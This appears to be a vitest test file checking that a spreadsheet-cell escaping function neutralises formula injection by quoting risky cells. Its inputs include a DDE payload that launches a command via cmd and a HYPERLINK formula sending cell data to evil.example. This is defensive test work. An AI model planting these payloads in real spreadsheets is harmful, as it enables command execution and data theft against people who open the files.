import { describe, expect, it } from 'vitest'
import { spreadsheetCell } from '../../src/compiler/meaning/spreadsheet-cell.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=1+1\nsecond line',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1)',
]

describe('a cell of a spreadsheet', () => {
  it.each(formulas)('%j is shown and not computed', (text) => {
    expect(spreadsheetCell(text)).toBe(`'${text}`)
  })

  it.each(['', '-5', '+5', '-1,200.50', 'a = b', "'=1", '2026-10-05', '–5 %', 'Qualify\n=1'])(
    '%j stays as it is',
    (text) => {
      expect(spreadsheetCell(text)).toBe(text)
    },
  )
})
